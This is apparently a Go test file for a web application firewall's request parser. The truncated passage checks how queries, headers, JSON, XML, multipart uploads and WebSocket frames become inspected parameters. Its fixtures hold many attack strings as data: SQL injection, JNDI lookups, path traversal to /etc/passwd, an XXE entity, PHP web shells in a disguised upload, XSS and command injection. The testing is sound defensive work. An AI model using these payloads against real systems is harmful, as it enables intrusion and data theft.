package parse

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

// show renders params as "source name=value", with " (key)" for keys, " (literal)"
// for JSON literals and " (decl)" for markup declarations.
func show(params []request.Param) []string {
	out := make([]string, 0, len(params))
	for _, p := range params {
		s := fmt.Sprintf("%s %s=%s", p.Source, p.Name, p.Value)
		if p.Key {
			s += " (key)"
		}
		if p.Literal {
			s += " (literal)"
		}
		if p.Decl {
			s += " (decl)"
		}
		out = append(out, s)
	}
	return out
}

// httpReq builds a request the way the proxy does, from a target, headers and body.
func httpReq(method, target string, headers []string, body string) *request.Request {
	r := &request.Request{Method: method, URI: target}
	path, q, _ := strings.Cut(target, "?")
	r.Path, r.RawQuery = path, q
	for i := 0; i+1 < len(headers); i += 2 {
		r.Headers = append(r.Headers, request.Header{Name: headers[i], Value: headers[i+1]})
		if strings.EqualFold(headers[i], "Content-Type") {
			r.ContentType = headers[i+1]
		}
	}
	if body != "" {
		r.Body = []byte(body)
	}
	return r
}

var testLimits = Limits{Params: 100, Depth: 16}

func TestFill(t *testing.T) {
	const ctForm = "application/x-www-form-urlencoded"
	tests := []struct {
		name      string
		req       *request.Request
		lim       *Limits
		want      []string
		wantFlags request.Flags
	}{
		{
			name: "path segments",
			req:  httpReq("GET", "/api//v1/users/O'Brien/", nil, ""),
			want: []string{"path path[0]=api", "path path[1]=v1", "path path[2]=users", "path path[3]=O'Brien"},
		},
		{
			name:      "query decoded once, plus as space, invalid escape kept and malformed, empty values kept",
			req:       httpReq("GET", "/?q=a+b%2527&x=%zz&empty=&flag&&=&t=%3Cscript%3E", nil, ""),
			want:      []string{"query q=a b%27", "query x=%zz", "query empty=", "query flag=", "query t=<script>"},
			wantFlags: request.FlagMalformed,
		},
		{
			name: "query with valid escapes only is not malformed",
			req:  httpReq("GET", "/?a=%41%2b%e2%82%AC&b=100%25&%3Cb%3E=1", nil, ""),
			want: []string{"query a=A+€", "query b=100%", "query <b>=<b> (key)", "query <b>=1"},
		},
		{
			name:      "query with an invalid escape in a name",
			req:       httpReq("GET", "/?a%zz=1", nil, ""),
			want:      []string{"query a%zz=a%zz (key)", "query a%zz=1"},
			wantFlags: request.FlagMalformed,
		},
		{
			name:      "form with an escape that is not hex",
			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "param=%1G"),
			want:      []string{"form param=%1G"},
			wantFlags: request.FlagMalformed,
		},
		{
			name:      "form with a broken escape among words",
			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=1&x=new+%w20$"),
			want:      []string{"form a=1", "form x=new %w20$"},
			wantFlags: request.FlagMalformed,
		},
		{
			name:      "form ending in a percent sign",
			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=50%"),
			want:      []string{"form a=50%"},
			wantFlags: request.FlagMalformed,
		},
		{
			name:      "form ending in half an escape",
			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=%4"),
			want:      []string{"form a=%4"},
			wantFlags: request.FlagMalformed,
		},
		{
			// '%' is a legal byte of a cookie value, which is not always URL-encoded.
			name: "cookie with a percent sign is not malformed",
			req:  httpReq("GET", "/", []string{"Cookie", "pct=50%; x=%41"}, ""),
			want: []string{"cookie pct=50%", "cookie x=A"},
		},
		{
			name: "unusual query names are keys",
			req:  httpReq("GET", "/?%3Cimg%20src%3Dx%3E&user[name]=bob&a%20b=1&__proto__[x]=1", nil, ""),
			want: []string{
				"query <img src=x>=<img src=x> (key)", "query <img src=x>=", "query user[name]=bob",
				"query a b=a b (key)", "query a b=1",
				"query __proto__[x]=__proto__[x] (key)", "query __proto__[x]=1",
			},
		},
		{
			name: "Authorization: a lookup whole, a JWT's header and a Basic user decoded, never a credential",
			req: httpReq("GET", "/", []string{
				"Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.AAAA",
				"Proxy-Authorization", "Basic YWRtaW4nIE9SICcxJz0nMSctLSAtOmh1bnRlcjI=",
				"Authorization", "Bearer ${jndi:ldap://x/a}",
				"Authorization", "Bearer opaque.token.x", "Authorization", "Basic !!notbase64",
				"Authorization", "Basic OnNlY3JldA==", // ":secret": no user
				"Accept-Language", "../../../../etc/passwd", "Accept-Language", "en-GB,en;q=0.9",
			}, ""),
			want: []string{
				`header Authorization.jwt-header={"alg":"HS256","typ":"JWT","kid":"../../../../dev/null"}`,
				"header Proxy-Authorization.user=admin' OR '1'='1'-- -",
				"header Authorization=Bearer ${jndi:ldap://x/a}",
				"header Accept-Language=../../../../etc/passwd",
			},
		},
		{
			name: "headers: custom and attackable ones, not Authorization nor boring ones",
			req: httpReq("GET", "/", []string{
				"user-agent", "Mozilla/5.0", "Referer", "https://a.example/", "Accept", "text/html;q=0.9",
				"Authorization", "Bearer secret' or 1=1", "X-Api-Version", "${jndi:ldap://x/a}",
				"X-Forwarded-For", "1.2.3.4", "Accept-Language", "${jndi:ldap://y/b}", "Sec-Ch-Ua", `"Chromium";v="128"`,
				"If-None-Match", `W/"abc"`, "X-Empty", "", "Accept-Encoding", "gzip, deflate, br",
				"Accept-Charset", "../../../../etc/passwd", "Accept", "*/*;q=0.8, image/webp",
			}, ""),
			want: []string{
				"header User-Agent=Mozilla/5.0", "header Referer=https://a.example/",
				"header X-Api-Version=${jndi:ldap://x/a}", "header X-Forwarded-For=1.2.3.4",
				"header Accept-Language=${jndi:ldap://y/b}", "header Accept-Charset=../../../../etc/passwd",
			},
		},
		{
			name: "cookies",
			req:  httpReq("GET", "/", []string{"Cookie", `sid=abc%27; theme="dark"; lonely; a b=1;; pref=; =; q=""`}, ""),
			want: []string{"cookie sid=abc'", "cookie theme=dark", "cookie =lonely", "cookie a b=a b (key)", "cookie a b=1", "cookie pref=", "cookie q="},
		},
		{
			name: "form body",
			req:  httpReq("POST", "/login", []string{"Content-Type", ctForm + "; charset=UTF-8"}, "user=bob&pass=x%27+or+1%3D1--"),
			want: []string{"path path[0]=login", "form user=bob", "form pass=x' or 1=1--"},
		},
		{
			name: "form body with empty values",
			req:  httpReq("POST", "/", []string{"Content-Type", ctForm}, "admin=&debug&x=1"),
			want: []string{"form admin=", "form debug=", "form x=1"},
		},
		{
			name: "JSON body flattened, keys inspected, literals marked",
			req: httpReq("POST", "/", []string{"Content-Type", "application/json"},
				`{"user":{"name":"bob","emails":["a@x","b@y"],"age":42,"admin":false,"n":null,"e":"","o":{},"a":[]},"$where":"1","a b":{"c":"d"},"":"e","esc\"k":"v\u003c"}`),
			want: []string{
				"json user.name=bob", "json user.emails[0]=a@x", "json user.emails[1]=b@y",
				"json user.age=42 (literal)", "json user.admin=false (literal)", "json user.n= (literal)", "json user.e=",
				"json $where=$where (key)", "json $where=1",
				"json a b=a b (key)", "json a b.c=d",
				"json =e",
				`json esc"k=esc"k (key)`, `json esc"k=v<`,
			},
		},
		{
			name: "JSON array root and nested arrays",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/vnd.api+json"}, `[["x",{"k":["y"]}],"z"]`),
			want: []string{"json [0][0]=x", "json [0][1].k[0]=y", "json [1]=z"},
		},
		{
			name: "JSON string root",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, `  "just text"  `),
			want: []string{"json =just text"},
		},
		{
			name: "JSON literals at the root, in arrays and under keys that are inspected",
			req: httpReq("POST", "/", []string{"Content-Type", "application/json"},
				`{"qty":150,"admin":true,"role":null,"ids":[1,5,-2.5e3],"f":{"$gt":0,"$ne":null},"":null,"x":""}`),
			want: []string{
				"json qty=150 (literal)", "json admin=true (literal)", "json role= (literal)",
				"json ids[0]=1 (literal)", "json ids[1]=5 (literal)", "json ids[2]=-2.5e3 (literal)",
				"json f.$gt=$gt (key)", "json f.$gt=0 (literal)", "json f.$ne=$ne (key)", "json f.$ne= (literal)",
				"json x=",
			},
		},
		{
			name: "JSON document that is a number",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, ` 42 `),
			want: []string{"json =42 (literal)"},
		},
		{
			name: "JSON document that is null or an empty string: nothing to take",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, `null`),
			want: []string{},
		},
		{
			name: "prototype pollution keys",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":"1"}}}`),
			want: []string{
				"json __proto__=__proto__ (key)", "json __proto__.isAdmin=true (literal)",
				"json constructor=constructor (key)", "json constructor.prototype=prototype (key)",
				"json constructor.prototype.x=1",
			},
		},
		{
			name: "JSON Lines body: each document flattened alone",
			req: httpReq("POST", "/_bulk", []string{"Content-Type", "application/x-ndjson"},
				"{\"index\":{\"_id\":\"1\"}}\n{\"name\":\"bob\"}\r\n\n{\"name\":\"O'Brien\"}\n"),
			want: []string{"path path[0]=_bulk", "json index._id=1", "json name=bob", "json name=O'Brien"},
		},
		{
			name:      "JSON text sequence (RFC 7464) sniffed without a type",
			req:       httpReq("POST", "/", nil, "\x1e{\"a\":\"x\"}\n\x1e[\"y\"]\n"),
			want:      []string{"json a=x", "json [0]=y"},
			wantFlags: request.FlagNoContentType,
		},
		{
			name:      "two JSON documents on one line are no sequence",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":"1"} {"b":"2"}`),
			want:      []string{"json a=1", `body ={"a":"1"} {"b":"2"}`},
			wantFlags: request.FlagJSONError,
		},
		{
			name:      "a JSON line that does not parse fails the sequence",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/x-ndjson"}, "{\"a\":\"1\"}\n{\"b\":'x' or 1=1}\n"),
			want:      []string{"json a=1", "body ={\"a\":\"1\"}\n{\"b\":'x' or 1=1}\n"},
			wantFlags: request.FlagJSONError,
		},
		{
			name:      "malformed JSON keeps what was read and inspects the text",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":"1","b":'x' or 1=1}`),
			want:      []string{"json a=1", `body ={"a":"1","b":'x' or 1=1}`},
			wantFlags: request.FlagJSONError,
		},
		{
			name:      "missing content type: JSON sniffed",
			req:       httpReq("POST", "/", nil, ` {"q":"<svg onload=x>"}`),
			want:      []string{"json q=<svg onload=x>"},
			wantFlags: request.FlagNoContentType,
		},
		{
			name:      "missing content type: form sniffed",
			req:       httpReq("POST", "/", nil, `a=1&b=union select`),
			want:      []string{"form a=1", "form b=union select"},
			wantFlags: request.FlagNoContentType,
		},
		{
			name:      "missing content type: XML sniffed",
			req:       httpReq("POST", "/", nil, `<a>x</a>`),
			want:      []string{"xml a=x"},
			wantFlags: request.FlagNoContentType,
		},
		{
			name:      "missing content type: plain text",
			req:       httpReq("POST", "/", nil, `cat /etc/passwd`),
			want:      []string{"body =cat /etc/passwd"},
			wantFlags: request.FlagNoContentType,
		},
		{
			name: "wrong content type: form declared, JSON sent",
			req:  httpReq("POST", "/", []string{"Content-Type", ctForm}, `{"q":"1' or '1'='1"}`),
			want: []string{"json q=1' or '1'='1"},
		},
		{
			name: "form declared, broken JSON-looking body parsed as form",
			req:  httpReq("POST", "/", []string{"Content-Type", ctForm}, `{"q":"x"`),
			want: []string{`form {"q":"x"={"q":"x" (key)`, `form {"q":"x"=`},
		},
		{
			name: "text/plain with JSON is sniffed",
			req:  httpReq("POST", "/", []string{"Content-Type", "text/plain"}, `{"q":"x"}`),
			want: []string{"json q=x"},
		},
		{
			name: "binary body of unknown type is skipped",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/octet-stream"}, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"),
			want: []string{},
		},
		{
			name: "text with one NUL is still text",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/octet-stream"}, "id; cat /etc/passwd\x00.jpg"),
			want: []string{"body =id; cat /etc/passwd\x00.jpg"},
		},
		{
			name: "html is text",
			req:  httpReq("POST", "/", []string{"Content-Type", "text/html"}, "<p>hi<br>"),
			want: []string{"body =<p>hi<br>"},
		},
		{
			name: "XML elements, attributes, repeated siblings, entities, CDATA, DOCTYPE",
			req: httpReq("POST", "/", []string{"Content-Type", "text/xml; charset=utf-8"},
				"<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"+
					"<r a='1'><item id=\"x&amp;y\">one</item><item>&xxe;&lt;&#65;&#x42;</item><!-- no --><c><![CDATA[<b>]]></c><e/></r>"),
			want: []string{
				`xml !DOCTYPE=<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
				"xml r.@a=1", "xml r.item.@id=x&y", "xml r.item=one", "xml r.item[1]=&xxe;<AB", "xml r.c=<b>", "xml r.e=",
			},
		},
		{
			name: "XML empty elements and attributes are empty values; an element with children is not one",
			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
				"<r><admin/><debug>  </debug><c><![CDATA[ ]]></c><u id=''></u><t>x</t><m>a<i/>b</m></r>"),
			want: []string{
				"xml r.admin=", "xml r.debug=", "xml r.c=", "xml r.u.@id=", "xml r.u=", "xml r.t=x",
				"xml r.m=a", "xml r.m.i=", "xml r.m=b",
			},
		},
		{
			name: "XML comments dropped and CDATA joined within an element's text",
			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
				"<r><a>1 UNI<!---->ON SELECT password FROM users--</a>"+
					"<b>-1 UNI<![CDATA[ON SEL]]>ECT password FROM users--</b>"+
					"<c>${jn<!---->di:ldap://x.example/a}</c>"+
					"<d> x&amp;<!-- c --><![CDATA[&amp;]]>&lt;y <?pi data?> z </d>"+
					"<e><![CDATA[ab]]><![CDATA[cd]]></e>"+
					"<f>\n  <!-- only a comment -->\n</f>"+
					"<g>a<!--1-->b<i>c<!--2-->d</i>e<!--3-->f</g></r>"),
			want: []string{
				"xml r.a=1 UNION SELECT password FROM users--",
				"xml r.b=-1 UNION SELECT password FROM users--",
				"xml r.c=${jndi:ldap://x.example/a}",
				"xml ?pi=data",
				"xml r.d=x&&amp;<y  z",
				"xml r.e=abcd",
				"xml r.f=",
				"xml r.g=ab", "xml r.g.i=cd", "xml r.g=ef",
			},
		},
		{
			name:      "XML text gathered before an error is kept",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, "<a><b>UNI<!---->ON</a>"),
			want:      []string{"xml a.b=UNION", "body =<a><b>UNI<!---->ON</a>"},
			wantFlags: request.FlagXMLError,
		},
		{
			name: "XML DOCTYPE naming only the root element and a DTD is a declaration",
			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
				`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`),
			want: []string{
				`xml !DOCTYPE=<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"> (decl)`,
				"xml plist.@version=1.0", "xml plist.dict=",
			},
		},
		{
			name: "XML DOCTYPE with the root element only is a declaration",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`),
			want: []string{"xml !DOCTYPE=<!DOCTYPE note> (decl)", "xml note=hi"},
		},
		{
			name: "XML DOCTYPE with an internal subset is an ordinary parameter",
			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
				`<!DOCTYPE x [<!ATTLIST x a CDATA "1 UNION SELECT password FROM users">]><x/>`),
			want: []string{`xml !DOCTYPE=<!DOCTYPE x [<!ATTLIST x a CDATA "1 UNION SELECT password FROM users">]>`, "xml x="},
		},
		{
			name: "XML processing instruction",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<?xml-stylesheet href="http://evil/x.xsl"?><r/>`),
			want: []string{`xml ?xml-stylesheet=href="http://evil/x.xsl"`, "xml r="},
		},
		{
			name:      "malformed XML",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<a><b>x</a>`),
			want:      []string{"xml a.b=x", "body =<a><b>x</a>"},
			wantFlags: request.FlagXMLError,
		},
		{
			// Blanks at the end of the document once moved the reading position past
			// the text that followed an end tag written with blanks before its '>'.
			name: "XML end tag with blanks, document ending in blanks",
			req:  httpReq("POST", "/", []string{"Content-Type", "application/xml"}, "<r><a>x</a\t><b>' or 1=1--</b></r>\t\t\t\t\t\t\t"),
			want: []string{"xml r.a=x", "xml r.b=' or 1=1--"},
		},
		{
			name: "multipart fields, file names and small text files",
			req: httpReq("POST", "/up", []string{"Content-Type", `multipart/form-data; boundary="XyZ"`},
				"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\nworld\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"a\\\".php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET[c]); ?>\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"img\"; filename=\"p.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR not read\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"gif\"; filename=\"q.gif\"\r\nContent-Type: image/gif\r\n\r\nGIF89a\x01\x00\x01\x00\x80\x00\x00 not read\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"x y\"\r\n\r\nv\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"admin\"\r\n\r\n\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"\"\r\n\r\n\r\n"+
					"--XyZ--\r\n"),
			want: []string{
				"path path[0]=up",
				"multipart title=hello\r\nworld",
				`multipart doc.filename=a".php`, "multipart doc=<?php system($_GET[c]); ?>",
				"multipart img.filename=p.png",
				"multipart gif.filename=q.gif",
				"multipart x y=x y (key)", "multipart x y=v",
				"multipart admin=",
			},
		},
		{
			name: "multipart text declared as an image is read, a file of another type is not; file names with backslashes also read without",
			req: httpReq("POST", "/up", []string{"Content-Type", `multipart/form-data; boundary=XyZ`},
				"--XyZ\r\nContent-Disposition: form-data; name=\"a\"; filename=\"shell.png\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n<?php eval($_POST[x]); ?>\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"b\"; filename=\"..\\..\\win.ini\"\r\nContent-Type: application/zip\r\n\r\nPK\x03\x04\x14\x00 not read\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"c\"; filename=\"C:\\\\tmp\\\"x\\\".txt\"\r\n\r\nhi\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"d\"; filename=\"dump.sql\"\r\nContent-Type: application/sql\r\n\r\nDROP TABLE IF EXISTS `t`; -- not read\r\n"+
					"--XyZ\r\nContent-Disposition: form-data; name=\"e\"; filename=\"run.bat\"\r\nContent-Type: application/x-msdownload\r\n\r\n@echo off & del x -- not read\r\n"+
					"--XyZ--\r\n"),
			want: []string{
				"path path[0]=up",
				"multipart a.filename=shell.png", "multipart a=GIF89a\r\n<?php eval($_POST[x]); ?>",
				`multipart b.filename=..\..\win.ini`, "multipart b.filename=....win.ini",
				`multipart c.filename=C:\tmp"x".txt`, "multipart c=hi",
				"multipart d.filename=dump.sql", "multipart e.filename=run.bat",
			},
		},
		{
			name: "multipart with LF only and no final boundary",
			req: httpReq("POST", "/", []string{"Content-Type", "multipart/form-data; boundary=b"},
				"--b\nContent-Disposition: form-data; name=a\n\n1\n--b\nContent-Disposition: form-data; name=c\n\n2"),
			want:      []string{"multipart a=1", "multipart c=2"},
			wantFlags: request.FlagMalformed,
		},
		{
			name:      "multipart without boundary",
			req:       httpReq("POST", "/", []string{"Content-Type", "multipart/form-data"}, "a=b"),
			want:      []string{"body =a=b"},
			wantFlags: request.FlagMalformed,
		},
		{
			name: "multipart file over the size limit is not read",
			req: httpReq("POST", "/", []string{"Content-Type", "multipart/form-data; boundary=b"},
				"--b\r\nContent-Disposition: form-data; name=f; filename=big.txt\r\n\r\n"+strings.Repeat("a", 64)+"\r\n--b--"),
			lim:  &Limits{Params: 10, Depth: 4, FileBytes: 32},
			want: []string{"multipart f.filename=big.txt"},
		},
		{
			name:      "parameter limit stops parsing",
			req:       httpReq("GET", "/a/b?c=1&d=2&e=3", []string{"User-Agent", "x"}, ""),
			lim:       &Limits{Params: 3},
			want:      []string{"path path[0]=a", "path path[1]=b", "query c=1"},
			wantFlags: request.FlagTooManyParams,
		},
		{
			name:      "empty values and JSON literals count against the parameter limit",
			req:       httpReq("POST", "/?a&b=", []string{"Content-Type", "application/json"}, `{"n":1,"t":true,"z":null,"s":"x"}`),
			lim:       &Limits{Params: 4},
			want:      []string{"query a=", "query b=", "json n=1 (literal)", "json t=true (literal)"},
			wantFlags: request.FlagTooManyParams,
		},
		{
			name:      "depth limit stops parsing",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":"1","b":{"c":{"d":"x"}},"e":"2"}`),
			lim:       &Limits{Params: 10, Depth: 2},
			want:      []string{"json a=1"},
			wantFlags: request.FlagTooDeep,
		},
		{
			name:      "XML depth limit",
			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<a>1<b><c>2</c></b></a>`),
			lim:       &Limits{Params: 10, Depth: 2},
			want:      []string{"xml a=1"},
			wantFlags: request.FlagTooDeep,
		},
		{
			name:      "invalid UTF-8 value is flagged",
			req:       httpReq("GET", "/?q=%ff%fe", nil, ""),
			want:      []string{"query q=\xff\xfe"},
			wantFlags: request.FlagNotUTF8,
		},
		{
			name: "WebSocket JSON message",
			req: &request.Request{Protocol: request.ProtocolWebSocket, RawQuery: "ignored=1",
				Headers: []request.Header{{Name: "User-Agent", Value: "ignored"}}, Message: []byte(`{"op":"say","args":["<img src=x onerror=alert(1)>"]}`)},
			want: []string{"message op=say", "message args[0]=<img src=x onerror=alert(1)>"},
		},
		{
			name: "WebSocket JSON message with literals",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`{"qty":150,"ok":false,"to":{"id":7,"n":null}}`)},
			want: []string{"message qty=150 (literal)", "message ok=false (literal)", "message to.id=7 (literal)", "message to.n= (literal)"},
		},
		{
			name: "WebSocket text message",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("hello ' or 1=1")},
			want: []string{"message =hello ' or 1=1"},
		},
		{
			name:      "WebSocket broken JSON message",
			req:       &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`{"a":`)},
			want:      []string{`message ={"a":`},
			wantFlags: request.FlagJSONError,
		},
		{
			name: "SignalR messages closed by record separators",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("{\"type\":1,\"target\":\"Send\",\"arguments\":[\"hi\"]}\x1e{\"type\":6}\x1e")},
			want: []string{"message type=1 (literal)", "message target=Send", "message arguments[0]=hi", "message type=6 (literal)"},
		},
		{
			name: "Socket.IO event",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`42["chat message",{"text":"it's 5 o'clock"}]`)},
			want: []string{"message [0]=chat message", "message [1].text=it's 5 o'clock"},
		},
		{
			name: "Socket.IO event in a namespace with an acknowledgement id",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`42/admin-v2,17["ban",{"user":"x"}]`)},
			want: []string{"message [0]=ban", "message [1].user=x"},
		},
		{
			name: "Socket.IO binary event, connect and Engine.IO open",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`451-["upload",{"_placeholder":true,"num":0}]`)},
			want: []string{"message [0]=upload", "message [1]._placeholder=true (literal)", "message [1].num=0 (literal)"},
		},
		{
			name: "Socket.IO connect with auth",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`40/chat,{"token":"abc"}`)},
			want: []string{"message token=abc"},
		},
		{
			name: "digits then text are text",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`42 is the answer`)},
			want: []string{"message =42 is the answer"},
		},
		{
			name: "a Socket.IO prefix with a namespace that is no path is text",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`42/a' or 1=1--,["x"]`)},
			want: []string{`message =42/a' or 1=1--,["x"]`},
		},
		{
			name: "a Socket.IO payload that does not parse is text, nothing kept from it",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`42["x","y"] or 1=1`)},
			want: []string{`message =42["x","y"] or 1=1`},
		},
		{
			name: "STOMP SEND frame: headers and JSON body, the closing NUL is framing",
			req: &request.Request{Protocol: request.ProtocolWebSocket,
				Message: []byte("SEND\ndestination:/app/chat\ncontent-type:application/json\r\nx-note:a\\cb\\nc\n\n{\"text\":\"hi\"}\x00\n")},
			want: []string{"message destination=/app/chat", "message content-type=application/json", "message x-note=a:b\nc", "message text=hi"},
		},
		{
			name: "STOMP CONNECT frame: no escapes, empty body",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("\nCONNECT\naccept-version:1.2\nhost:a\\c\n\n\x00")},
			want: []string{"message accept-version=1.2", `message host=a\c`},
		},
		{
			name: "STOMP text body",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("SEND\ndestination:/q\n\nhello there\x00")},
			want: []string{"message destination=/q", "message =hello there"},
		},
		{
			name: "two STOMP frames in one message are text",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("SEND\ndestination:/q\n\na\x00SEND\ndestination:/q\n\nb\x00")},
			want: []string{"message =SEND\ndestination:/q\n\na\x00SEND\ndestination:/q\n\nb\x00"},
		},
		{
			name: "a STOMP-like message with a line that is no header is text",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("SEND\nhello\n\nx\x00")},
			want: []string{"message =SEND\nhello\n\nx\x00"},
		},
		{
			name: "Engine.IO ping is text",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`2probe`)},
			want: []string{"message =2probe"},
		},
		{
			name: "WebSocket handshake is parsed as HTTP",
			req:  &request.Request{Protocol: request.ProtocolWebSocket, Path: "/ws", RawQuery: "t=1"},
			want: []string{"path path[0]=ws", "query t=1"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lim := testLimits
			if tt.lim != nil {
				lim = *tt.lim
			}
			Fill(tt.req, lim)
			if got := show(tt.req.Params); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("params\n got  %q\n want %q", got, tt.want)
			}
			if tt.req.Flags != tt.wantFlags {
				t.Errorf("flags %b, want %b", tt.req.Flags, tt.wantFlags)
			}
			if !tt.req.Parsed {
				t.Error("Parsed not set")
			}
		})
	}
}

func TestFillIdempotent(t *testing.T) {
	r := httpReq("GET", "/a?b=c", nil, "")
	Fill(r, testLimits)
	n := len(r.Params)
	Fill(r, testLimits)
	if len(r.Params) != n {
		t.Errorf("second Fill changed params from %d to %d", n, len(r.Params))
	}
}

// TestFillValuesSurvivePoolReuse checks that values built in a pooled arena are not
// overwritten by the next request parsed with the same parser.
func TestFillValuesSurvivePoolReuse(t *testing.T) {
	r1 := httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":{"b":"x\u0041"}}`)
	Fill(r1, testLimits)
	for range 10 {
		Fill(httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"z":{"z":"zzzzzzzz\u005a"}}`), testLimits)
	}
	if got := show(r1.Params); !reflect.DeepEqual(got, []string{"json a.b=xA"}) {
		t.Errorf("params after reuse: %q", got)
	}
}

// TestParamsDoNotAliasBody checks that parameters taken from a body or a WebSocket
// message survive the caller reusing its buffer (pooled bodies, frame buffers).
func TestParamsDoNotAliasBody(t *testing.T) {
	const ctJSON, ctForm = "application/json", "application/x-www-form-urlencoded"
	msg := func(m string) *request.Request {
		return &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(m)}
	}
	tests := []struct {
		name string
		req  *request.Request
		want []string
	}{
		{"json", httpReq("POST", "/", []string{"Content-Type", ctJSON}, `{"a":"x","b":{"c":"y\u0041"},"d e":"z"}`),
			[]string{"json a=x", "json b.c=yA", "json d e=d e (key)", "json d e=z"}},
		{"form", httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=1&b=x+y&c%20d=2"),
			[]string{"form a=1", "form b=x y", "form c d=c d (key)", "form c d=2"}},
		{"text", httpReq("POST", "/", []string{"Content-Type", "text/plain"}, "hello there"),
			[]string{"body =hello there"}},
		{"bad json", httpReq("POST", "/", []string{"Content-Type", ctJSON}, `{"a":"x",`),
			[]string{"json a=x", `body ={"a":"x",`}},
		{"json literals", httpReq("POST", "/", []string{"Content-Type", ctJSON}, `{"a":12,"b":{"c":-2.5e3},"d":[7,true]}`),
			[]string{"json a=12 (literal)", "json b.c=-2.5e3 (literal)", "json d[0]=7 (literal)", "json d[1]=true (literal)"}},
		{"gzipped json", httpReq("POST", "/", []string{"Content-Type", ctJSON, "Content-Encoding", "gzip"}, gzipped(`{"a":"x","b":"y\u0041"}`)),
			[]string{"json a=x", "json b=yA"}},
		{"xml joined text", httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<r><a>x<!---->y</a><b>z</b></r>`),
			[]string{"xml r.a=xy", "xml r.b=z"}},
		{"message json", msg(`{"t":"hi","u":{"v":"w"}}`), []string{"message t=hi", "message u.v=w"}},
		{"message literals", msg(`{"n":4711,"u":{"ts":1719846000123}}`), []string{"message n=4711 (literal)", "message u.ts=1719846000123 (literal)"}},
		{"message text", msg("just text"), []string{"message =just text"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			Fill(tt.req, testLimits)
			for _, b := range [][]byte{tt.req.Body, tt.req.Message} {
				for i := range b {
					b[i] = '#'
				}
			}
